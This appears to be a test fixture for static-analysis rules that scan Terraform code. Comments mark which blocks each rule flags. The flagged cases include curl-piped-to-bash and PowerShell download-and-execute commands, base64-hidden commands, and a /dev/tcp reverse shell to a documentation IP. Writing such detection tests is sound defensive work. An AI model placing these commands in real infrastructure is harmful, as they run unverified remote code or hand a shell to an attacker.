resource "null_resource" "tools" {
  provisioner "local-exec" {
    # ruleid: terraform.run.download-and-run-here
    command = "curl -fsSL https://tools.example/install.sh | sudo -E bash -s -- -y"
  }
  provisioner "local-exec" {
    # ruleid: terraform.run.download-and-run-here
    command = <<-SHELL
      wget -q https://tools.example/agent -O /tmp/agent
      chmod +x /tmp/agent
      /tmp/agent &
    SHELL
  }
  provisioner "local-exec" {
    # ruleid: terraform.run.download-and-run-here
    command     = "iwr https://tools.example/a.ps1 -UseBasicParsing | iex"
    interpreter = ["PowerShell", "-Command"]
  }
  provisioner "local-exec" {
    # ok: terraform.run.download-and-run-here
    command = "curl -fsS https://forge.example/health | grep -q ok"
  }
  provisioner "local-exec" {
    # ok: terraform.run.download-and-run-here
    command = "bash ./scripts/wait.sh"
  }
}

data "external" "version" {
  # ruleid: terraform.run.download-and-run-here, terraform.run.external-program
  program = ["bash", "-c", "source <(curl -s https://tools.example/version.sh)"]
}

data "external" "commit" {
  # ruleid: terraform.run.external-program
  program = ["python3", "${path.module}/commit.py"]
}

data "http" "version" {
  # ok: terraform.run.external-program
  url = "https://forge.example/version"
}

resource "example_job" "build" {
  # ok: terraform.run.external-program
  program = ["python3", "build.py"]
}

resource "aws_instance" "runner" {
  # ruleid: terraform.run.download-and-run-there
  user_data = <<-SHELL
    #!/bin/bash
    curl -fsSL https://tools.example/agent.sh | sh
  SHELL
}

resource "google_compute_instance" "runner" {
  metadata = {
    # ruleid: terraform.run.download-and-run-there
    startup-script = "bash <(wget -qO- https://tools.example/agent.sh)"
  }
}

resource "aws_instance" "packages" {
  # ok: terraform.run.download-and-run-there
  user_data = <<-SHELL
    #!/bin/bash
    apt-get update && apt-get install -y nginx
    curl -fsSL https://packages.example/key.gpg | gpg --dearmor -o /usr/share/keyrings/packages.gpg
  SHELL
}

resource "aws_instance" "checked" {
  # ok: terraform.run.download-and-run-there
  user_data = <<-SHELL
    curl -fsSLo /tmp/agent.deb https://packages.example/agent-1.2.deb
    echo "${var.sha256}  /tmp/agent.deb" | sha256sum -c && dpkg -i /tmp/agent.deb
  SHELL
}

resource "null_resource" "hidden" {
  provisioner "local-exec" {
    # ruleid: terraform.run.hidden-command
    command = "echo aWQgPiAvdG1wL2lk | base64 -d | bash"
  }
  provisioner "remote-exec" {
    # ruleid: terraform.run.hidden-command
    inline = ["bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"]
  }
  provisioner "local-exec" {
    # ruleid: terraform.run.decoded-command
    command = base64decode("aWQgPiAvdG1wL2lk")
  }
  provisioner "local-exec" {
    # ok: terraform.run.hidden-command
    command = "echo '${self.triggers.certificate}' | base64 -d > authority.pem"
  }
  provisioner "local-exec" {
    # ok: terraform.run.hidden-command
    command = "nc -z ${self.private_ip} 22"
  }
  provisioner "local-exec" {
    # ok: terraform.run.decoded-command
    command = "deploy ${base64encode(var.name)}"
  }
}

data "external" "hidden" {
  # ruleid: terraform.run.decoded-command, terraform.run.external-program
  program = ["sh", "-c", base64decode("ZWNobyAie30i")]
}

provider "kubernetes" {
  # ok: terraform.run.decoded-command
  cluster_ca_certificate = base64decode(aws_eks_cluster.main.certificate_authority[0].data)
}

resource "null_resource" "tag" {
  provisioner "local-exec" {
    # ruleid: terraform.run.variable-in-command
    command = "deploy --name ${var.name}"
  }
  provisioner "local-exec" {
    # ruleid: terraform.run.variable-in-command
    command = <<-SHELL
      deploy --name '${data.external.commit.result.name}'
    SHELL
  }
  provisioner "local-exec" {
    # ok: terraform.run.variable-in-command
    command     = "deploy --name \"$NAME\""
    environment = { NAME = var.name }
  }
  provisioner "local-exec" {
    # ok: terraform.run.variable-in-command
    command = "${path.module}/deploy.sh"
  }
}

module "network" {
  # ruleid: terraform.module.unpinned-source
  source = "git::https://forge.example/infrastructure/network.git"
}

module "branch" {
  # ruleid: terraform.module.unpinned-source
  source = "git::ssh://git@forge.example/infrastructure/network.git//subnets?ref=main"
}

module "archive" {
  # ruleid: terraform.module.unpinned-source
  source = "http://modules.example/network-1.2.0.zip"
}

module "pinned" {
  # ok: terraform.module.unpinned-source
  source = "git::https://forge.example/infrastructure/network.git?ref=v1.2.0"
}

# ok: terraform.module.no-version
module "local" {
  # ok: terraform.module.unpinned-source
  source = "../network"
}

# ruleid: terraform.module.no-version
module "registry" {
  source = "example/network/aws"
}

# ruleid: terraform.module.no-version
module "private" {
  source = "registry.corp.example/example/network/aws//modules/subnets"
}

# ok: terraform.module.no-version
module "versioned" {
  source  = "example/network/aws"
  version = "~> 5.8"
}
